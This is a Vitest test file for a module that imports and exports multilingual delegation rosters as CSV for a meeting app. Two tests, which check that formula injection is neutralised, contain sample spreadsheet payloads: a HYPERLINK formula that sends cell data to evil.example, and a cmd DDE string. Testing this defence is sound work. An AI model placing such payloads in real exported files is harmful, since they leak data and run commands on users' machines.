import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { LEGACY_LANGUAGES, ROSTER_MAX_DELEGATIONS, type Lang } from '@rostrum/core';
import { formulaCells, readAsSpreadsheet } from '@rostrum/core/testing';
import { decodeCsv, idFromName, idFromNames, likelyDuplicates, linksCsv, parseRosterCsv } from './roster-csv.js';

/** A meeting held in English and Russian, as every meeting was before they had their own languages. */
const EN_RU = LEGACY_LANGUAGES;
const FR_EN_AR: Lang[] = ['fr', 'en', 'ar'];

describe('reading a delegation list from CSV', () => {
  it('reads id, English and Russian names by header, in any column order', () => {
    const out = parseRosterCsv(
      'name_ru,id,name_en\nТаможня Мальты,mt,Malta Customs\n"Таможня: Узбекистан, ГТК",uz,"Uzbekistan, State Customs Committee"\n',
      EN_RU,
    );
    expect(out).toEqual({
      ok: true,
      problems: [],
      ignored: [],
      delegations: [
        { id: 'mt', name: { en: 'Malta Customs', ru: 'Таможня Мальты' } },
        { id: 'uz', name: { en: 'Uzbekistan, State Customs Committee', ru: 'Таможня: Узбекистан, ГТК' } },
      ],
    });
  });

  it('takes a spreadsheet export as it comes: a byte order mark, semicolons, CRLF, Russian headers, blank lines', () => {
    const out = parseRosterCsv(
      '\uFEFFКод;English;Русский\r\naz;Azerbaijan;Азербайджан\r\n\r\n;Bosnia and Herzegovina;Босния и Герцеговина\r\n',
      EN_RU,
    );
    expect(out.ok && out.delegations.map((d) => d.id)).toEqual(['az', 'bosnia-and-herzegovina']);
    expect(out.ok && out.problems).toEqual([]);
  });

  it('makes ids from English names: ASCII, lower case, dashes', () => {
    expect(idFromName('Türkiye — Ticaret Bakanlığı')).toBe('turkiye-ticaret-bakanligi');
    expect(idFromName('  North Macedonia  ')).toBe('north-macedonia');
    expect(idFromName('Główny Urząd Celny / Færøerne')).toBe('glowny-urzad-celny-faeroerne');
    expect(idFromName('Таможня')).toBe('');
    expect(idFromName('x'.repeat(100))).toHaveLength(64);
  });

  it('makes an id from the first name, in the meeting order, that has Latin letters', () => {
    expect(idFromNames({ ar: 'الجمارك', fr: 'Douane du Maroc' }, ['ar', 'fr'])).toBe('douane-du-maroc');
    expect(idFromNames({ ar: 'الجمارك' }, ['ar', 'fr'])).toBe('');
  });

  it('reports each bad row by its spreadsheet row number, and keeps the good ones; only the original name is required', () => {
    const out = parseRosterCsv(
      [
        'id,name_en,name_ru',
        'mt,Malta,Мальта',
        'kz,,Казахстан',
        'ge,Georgia,',
        'mt,Malta again,Мальта снова',
        'bad id,Bad,Плохой',
        ',Таможня,Таможня',
        `long,${'L'.repeat(200)},Д`,
      ].join('\n'),
      EN_RU,
    );
    if (!out.ok) throw new Error(out.error);
    // Georgia without its Russian name is imported in English: Russian can be filled in later.
    expect(out.delegations).toEqual([
      { id: 'mt', name: { en: 'Malta', ru: 'Мальта' } },
      { id: 'ge', name: { en: 'Georgia' } },
    ]);
    expect(out.problems).toEqual([
      { row: 3, code: 'blankOriginal' },
      { row: 5, code: 'duplicateId' },
      { row: 6, code: 'badId' },
      // No id and an English name with no Latin letter: no id can be made.
      { row: 7, code: 'badId' },
      { row: 8, code: 'tooLong' },
    ]);
  });

  it('reads a name column for each language of the meeting, requires the original, and leaves out the languages it lacks', () => {
    const out = parseRosterCsv(
      [
        'id;name_ar;name_fr;name_es;name_en',
        'ma;الجمارك المغربية;Administration des douanes du Maroc;Aduanas de Marruecos;',
        'tn;;Douane tunisienne;Aduana de Túnez;Tunisian Customs',
        ';الجمارك;;;Customs',
      ].join('\n'),
      FR_EN_AR,
    );
    if (!out.ok) throw new Error(out.error);
    expect(out.delegations).toEqual([
      { id: 'ma', name: { fr: 'Administration des douanes du Maroc', ar: 'الجمارك المغربية' } },
      { id: 'tn', name: { fr: 'Douane tunisienne', en: 'Tunisian Customs' } },
    ]);
    // Row 4 has no French name, the original of this meeting.
    expect(out.problems).toEqual([{ row: 4, code: 'blankOriginal' }]);
    // The Spanish column is not read: the meeting is not held in Spanish.
    expect(out.ignored).toEqual(['es']);
  });

  it('reads a plain "name" column as the original, and as English for a meeting in English and Russian', () => {
    const french = parseRosterCsv('id,nom\nbe,Douanes belges', ['fr']);
    expect(french.ok && french.delegations).toEqual([{ id: 'be', name: { fr: 'Douanes belges' } }]);
    const legacy = parseRosterCsv('name,название\nMalta,Мальта', EN_RU);
    expect(legacy.ok && legacy.delegations).toEqual([{ id: 'malta', name: { en: 'Malta', ru: 'Мальта' } }]);
  });

  it('refuses a file without the original name column, an empty file and a list longer than a roster', () => {
    expect(parseRosterCsv('id,name_ru\nmt,Мальта', EN_RU)).toEqual({
      ok: false,
      error: 'missingColumns',
      missing: ['en'],
    });
    expect(parseRosterCsv('id,name_en,name_ru\nmt,Malta,Мальта', ['fr', 'en'])).toEqual({
      ok: false,
      error: 'missingColumns',
      missing: ['fr'],
    });
    expect(parseRosterCsv('', EN_RU)).toEqual({ ok: false, error: 'empty' });
    expect(parseRosterCsv('id,name_en,name_ru\n', EN_RU)).toEqual({ ok: false, error: 'empty' });
    const rows = Array.from({ length: ROSTER_MAX_DELEGATIONS + 1 }, (_, i) => `d${i},D${i},Д${i}`);
    expect(parseRosterCsv(['id,name_en,name_ru', ...rows].join('\n'), EN_RU)).toEqual({
      ok: false,
      error: 'tooMany',
    });
  });

  it('writes the links for a mail merge, quoting what needs it, and reads back the same', () => {
    const csv = linksCsv(
      [
        {
          name: { en: 'Malta, Customs', ru: 'Таможня "Мальты"' },
          role: 'delegate',
          seat: 'head',
          delegationId: 'mt',
          url: 'https://r.example/m/x#t=a.b',
        },
      ],
      EN_RU,
    );
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(Papa.parse(csv.slice(1)).data).toEqual([
      ['name_en', 'name_ru', 'role', 'seat', 'delegation_id', 'url'],
      ['Malta, Customs', 'Таможня "Мальты"', 'delegate', 'head', 'mt', 'https://r.example/m/x#t=a.b'],
    ]);
  });

  it('writes a name column per language of the meeting, the original where a name is not translated yet', () => {
    const csv = linksCsv(
      [
        {
          name: { fr: 'Douane tunisienne', ar: 'الديوانة التونسية' },
          role: 'delegate',
          seat: 'deputy',
          delegationId: 'tn',
          url: 'https://r.example/m/x#t=b',
        },
      ],
      FR_EN_AR,
    );
    expect(Papa.parse(csv.slice(1)).data).toEqual([
      ['name_fr', 'name_en', 'name_ar', 'role', 'seat', 'delegation_id', 'url'],
      [
        'Douane tunisienne',
        'Douane tunisienne',
        'الديوانة التونسية',
        'delegate',
        'deputy',
        'tn',
        'https://r.example/m/x#t=b',
      ],
    ]);
  });

  it('never writes a name a spreadsheet would run as a formula', () => {
    const evil = '=HYPERLINK("https://evil.example/?"&F2,"Open")';
    const rows = Papa.parse<string[]>(
      linksCsv(
        [
          {
            name: { en: evil, ru: '+1' },
            role: 'delegate',
            seat: 'head',
            delegationId: 'x',
            url: 'https://r.example/m/x#t=a',
          },
        ],
        EN_RU,
      ).slice(1),
    ).data;
    expect(rows[1]?.[0]).toBe(`'${evil}`);
    expect(rows[1]?.[1]).toBe("'+1");
  });

  it('opened with `,` or with `;` (Excel in Russian or French) or tab, no cell of the links CSV is a formula, and every field reads back', () => {
    // [as typed, as a spreadsheet shows it]: an apostrophe before a formula start at the start of
    // a text and after a `;`, a tab or a line break inside it (see core's csv.ts).
    const names: Array<[string, string]> = [
      [
        'Malta;=HYPERLINK("https://evil.example/?"&F2,"Open")',
        'Malta;\'=HYPERLINK("https://evil.example/?"&F2,"Open")',
      ],
      ["Таможня;-2+3+cmd|' /C calc'!A0", "Таможня;'-2+3+cmd|' /C calc'!A0"],
      ['Customs\n@SUM(1)', "Customs\n'@SUM(1)"],
      ['+1', "'+1"],
      ['Malta, Customs', 'Malta, Customs'],
    ];
    const links = names.map(([name], i) => ({
      name: { en: name, ru: `${name} (рус.)` },
      role: 'delegate',
      seat: 'head',
      delegationId: `d${i}`,
      url: `https://r.example/m/x#t=a${i}`,
    }));
    const csv = linksCsv(links, EN_RU).slice(1);
    expect(formulaCells(csv)).toEqual([]);
    const [header, ...rows] = readAsSpreadsheet(csv, ',');
    expect(header).toEqual(['name_en', 'name_ru', 'role', 'seat', 'delegation_id', 'url']);
    expect(rows).toEqual(
      names.map(([, shown], i) => [
        shown,
        `${shown} (рус.)`,
        'delegate',
        'head',
        `d${i}`,
        `https://r.example/m/x#t=a${i}`,
      ]),
    );
    // papaparse, which the desk reads CSV with, sees the same cells.
    expect(Papa.parse<string[]>(csv).data).toEqual([header, ...rows]);
  });

  it('reads a file saved as UTF-8 or as Windows-1251 (a Russian Excel)', () => {
    const utf8 = new TextEncoder().encode('id,name_en,name_ru\nmt,Malta,Мальта\n');
    expect(decodeCsv(utf8)).toEqual({ text: 'id,name_en,name_ru\nmt,Malta,Мальта\n', encoding: 'utf-8' });
    // "Мальта" in Windows-1251.
    const cp1251 = new Uint8Array([
      ...new TextEncoder().encode('id,name_en,name_ru\nmt,Malta,'),
      0xcc,
      0xe0,
      0xeb,
      0xfc,
      0xf2,
      0xe0,
      0x0a,
    ]);
    const decoded = decodeCsv(cp1251);
    expect(decoded.encoding).toBe('windows-1251');
    const out = parseRosterCsv(decoded.text, EN_RU);
    expect(out.ok && out.delegations[0]?.name.ru).toBe('Мальта');
  });

  it('flags a new delegation whose name is already on the roster under another id', () => {
    const roster = {
      delegationOrder: ['uz'],
      delegations: { uz: { name: { en: 'Uzbekistan Customs', ru: 'Таможня Узбекистана' } } },
    };
    const candidates = [
      { id: 'uzbekistan-customs', name: { en: 'uzbekistan  customs', ru: 'Другое' } },
      { id: 'kz', name: { en: 'Kazakhstan', ru: 'Таможня Узбекистана' } },
      { id: 'az', name: { en: 'Azerbaijan', ru: 'Азербайджан' } },
      // Renamed, not added: the same id is no duplicate.
      { id: 'uz', name: { en: 'Uzbekistan Customs', ru: 'Таможня Узбекистана' } },
    ];
    expect(likelyDuplicates(roster, candidates, ['uzbekistan-customs', 'kz', 'az'])).toEqual([
      { id: 'uzbekistan-customs', existingId: 'uz' },
      { id: 'kz', existingId: 'uz' },
    ]);
  });
});
